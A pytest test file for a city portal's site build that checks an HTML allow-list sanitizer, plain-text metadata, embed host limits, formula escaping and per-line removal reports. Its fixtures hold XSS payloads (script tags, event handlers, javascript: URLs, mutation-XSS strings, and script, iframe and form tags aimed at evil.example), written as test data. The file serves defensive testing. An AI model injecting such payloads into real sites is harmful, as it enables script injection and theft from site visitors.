"""Raw HTML from editors (issue 10, item 7): metadata is text, bodies keep only the
allow-list (nh3), embeds come only from PORTAL_EMBED_HOSTS, and `invoke check` names
every removal with file:line."""
from __future__ import annotations

import shutil
import subprocess
import sys
import xml.etree.ElementTree as ElementTree

import pytest
from bs4 import BeautifulSoup

from cityportal.markup import BodyPolicy, plain_text, spreadsheet_cell, terminal_text
from tests.sitebuild import CONTENT, ROOT, build_site

EMBED = "https://www.youtube-nocookie.com/embed/abc123"
HOSTILE_ARTICLE = f"""Title: Bản tin "><script>alert('tieu-de')</script> & <b>đậm</b>
Date: 2024-05-06 09:00
Category: Tin tức – Sự kiện
Author: "><script>alert('tac-gia')</script>
Summary: Tóm tắt <img src=x onerror="alert('tom-tat')"> ngắn.
Tags: an toàn, <i>thẻ</i>
Slug: ban-tin-thu-nghiem

Đoạn mở đầu bình thường, có **chữ đậm**.

<script>alert('than-bai')</script>

<p onclick="alert('onclick')">Đoạn có trình xử lý sự kiện.</p>

[Liên kết độc](javascript:alert('lien-ket'))

<iframe src="https://evil.example/player"></iframe>

<iframe src="{EMBED}" title="Video được phép" width="560" height="315"></iframe>

<a href="https://chinhphu.vn" onmouseover="alert('hover')">Cổng Chính phủ</a>

| Cột trái | Cột giữa |
|:---------|:--------:|
| a        | b        |
"""
ARTICLE_LINES = {line: number for number, line in enumerate(HOSTILE_ARTICLE.splitlines(), start=1)}


def _line(startswith: str) -> int:
    return next(number for line, number in ARTICLE_LINES.items() if line.startswith(startswith))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("markup-site")
    content = root / "content"
    (content / "articles").mkdir(parents=True)
    (content / "articles" / "ban-tin.md").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    shutil.copytree(CONTENT / "images" / "video", content / "images" / "video")
    output = root / "output"
    built = build_site(output, content=content)
    assert built.returncode == 0, built.stdout + built.stderr
    return content, output, built


# --- The sanitizer itself -----------------------------------------------------------

ACTIVE_BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="http://www.youtube-nocookie.com/embed/x"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><button>Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<style>body{display:none}</style>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


@pytest.mark.parametrize("body", ACTIVE_BODIES)
def test_allow_list_removes_active_markup_and_reports_it(body):
    policy = BodyPolicy(["www.youtube-nocookie.com"])
    cleaned = BeautifulSoup(str(policy.clean(f"<p>trước</p>{body}<p>sau</p>")), "html.parser")
    for element in cleaned.find_all(True):
        assert element.name not in {"script", "style", "object", "embed", "form", "meta", "base", "svg", "math"}
        for name, value in element.attrs.items():
            assert not name.startswith("on") and name != "srcdoc"
            if name in ("href", "src"):
                assert not value.strip().lower().replace("\t", "").startswith(("javascript:", "data:"))
        if element.name == "iframe":
            assert element.get("src", "").startswith("https://www.youtube-nocookie.com/") or "src" not in element.attrs
    assert [p.get_text() for p in cleaned.find_all("p")][:1] == ["trước"]
    assert any(removal.dangerous for removal in policy.removals(body)), body


def test_embeds_need_a_listed_host():
    iframe = f'<iframe src="{EMBED}" title="Video" width="560" height="315"></iframe>'
    assert BodyPolicy([]).clean(iframe) == ""
    assert str(BodyPolicy(["www.youtube-nocookie.com"]).clean(iframe)) == iframe
    assert BodyPolicy(["www.youtube-nocookie.com"]).removals(iframe) == []


def test_text_helpers_drop_what_would_act_instead_of_read():
    assert plain_text("a\u202eb\u2067c\u2069\u009b31m\ufeff=d") == "abc31m=d"
    assert plain_text("  hai   dòng\u2028ba ") == "hai dòng ba"
    assert terminal_text("đỏ \x1b[31m\u009b2J xong") == "đỏ [31m2J xong"
    for formula in ("=1+1", "\ufeff=1+1", " =1+1", "\u200e+1", "@SUM(A1)", "-2+3", "\t=1", "\uff1d1+1"):
        assert spreadsheet_cell(formula).startswith("'"), formula
    assert spreadsheet_cell("Đèn tín hiệu") == "Đèn tín hiệu"


# --- The build ----------------------------------------------------------------------

def test_metadata_is_text_everywhere_in_the_page(hostile_site):
    _, output, _ = hostile_site
    raw = (output / "ban-tin-thu-nghiem" / "index.html").read_text(encoding="utf-8")
    page = BeautifulSoup(raw, "html.parser")
    title = "Bản tin \"><script>alert('tieu-de')</script> & <b>đậm</b>"
    assert page.title.get_text().startswith(title + " – ")
    assert page.select_one("h1.page-title").get_text() == title
    assert page.find("meta", property="og:title")["content"] == title
    assert page.find("meta", attrs={"name": "DC.title"})["content"] == title
    assert page.find("meta", attrs={"name": "DC.creator"})["content"] == "\"><script>alert('tac-gia')</script>"
    assert page.select_one(".article__author").get_text() == "\"><script>alert('tac-gia')</script>"
    assert "<i>thẻ</i>" in [a.get_text() for a in page.select(".article__tags a")]
    # The only scripts are the theme's own files.
    assert all(script.get("src", "").startswith(("../theme/js/", "/theme/js/")) for script in page.find_all("script"))
    assert not any(name.startswith("on") for element in page.find_all(True) for name in element.attrs)
    assert "javascript:" not in raw and "evil.example" not in raw


def test_body_keeps_the_allow_list_and_the_allowed_embed(hostile_site):
    _, output, _ = hostile_site
    page = BeautifulSoup((output / "ban-tin-thu-nghiem" / "index.html").read_text(encoding="utf-8"), "html.parser")
    body = page.select_one(".article__body")
    assert body.find("strong").get_text() == "chữ đậm"
    # The foreign frame is left empty (about:blank); the allowed one waits for a click:
    # a link to its address, and no frame that would load anything from its host.
    assert [iframe.get("src") for iframe in body.find_all("iframe")] == [None]
    embed = body.select_one(".embed")
    assert embed["data-embed-src"] == EMBED and embed.select_one("a.embed__link")["href"] == EMBED
    assert body.find("a", string="Cổng Chính phủ")["href"] == "https://chinhphu.vn"
    assert body.find("a", string="Liên kết độc").get("href") is None
    assert body.find("td", string=lambda text: text and text.strip() == "b")["style"] == "text-align: center;"
    lead = page.select_one(".article__lead")
    assert lead.find("img") is not None and "onerror" not in lead.find("img").attrs


def test_feed_and_listing_carry_the_title_as_text(hostile_site):
    _, output, _ = hostile_site
    feed = ElementTree.parse(output / "feeds" / "all.atom.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    entry = feed.find(f"{atom}entry")
    assert entry.find(f"{atom}title").text == "Bản tin \"><script>alert('tieu-de')</script> & <b>đậm</b>"
    content = BeautifulSoup(entry.find(f"{atom}content").text, "html.parser")
    assert content.find("script") is None
    assert not any(name.startswith("on") for element in content.find_all(True) for name in element.attrs)
    listing = BeautifulSoup((output / "index.html").read_text(encoding="utf-8"), "html.parser")
    assert listing.select_one(".featured__title a").get_text().startswith("Bản tin \"><script>")
    assert listing.find("script", string=True) is None


def test_build_logs_each_removal_with_its_line(hostile_site):
    _, _, built = hostile_site
    log = built.stdout + built.stderr
    assert f"ban-tin.md:{_line('<script>')}:" in log
    assert f"ban-tin.md:{_line('<p onclick')}:" in log


def test_invoke_check_reports_removals_with_file_and_line(hostile_site):
    content, _, _ = hostile_site
    result = subprocess.run([sys.executable, "-m", "invoke", "check", "--content", str(content)],
                            cwd=ROOT, capture_output=True, text=True)
    assert result.returncode != 0
    lines = result.stdout.splitlines()

    def reported(line_number, level, words):
        return any(f"ban-tin.md:{line_number}: {level}: " in line and words in line for line in lines)

    assert reported(_line("<script>"), "lỗi", "<script>"), result.stdout
    assert reported(_line("<p onclick"), "lỗi", "onclick"), result.stdout
    assert reported(_line("[Liên kết độc]"), "lỗi", "javascript:"), result.stdout
    assert reported(_line('<iframe src="https://evil'), "lỗi", "evil.example"), result.stdout
    assert reported(_line("<a href"), "lỗi", "onmouseover"), result.stdout
    assert reported(_line("Summary:"), "lỗi", "onerror"), result.stdout
    assert reported(_line("Title:"), "cảnh báo", "văn bản thường"), result.stdout
    assert reported(_line("Author:"), "cảnh báo", "văn bản thường"), result.stdout
    # The allowed embed and the aligned table are not reported.
    allowed_embed = _line('<iframe src="https://www.youtube')
    assert not any(f"ban-tin.md:{allowed_embed}:" in line for line in lines)
    assert not any(":" + str(_line("|:---")) + ":" in line for line in lines)
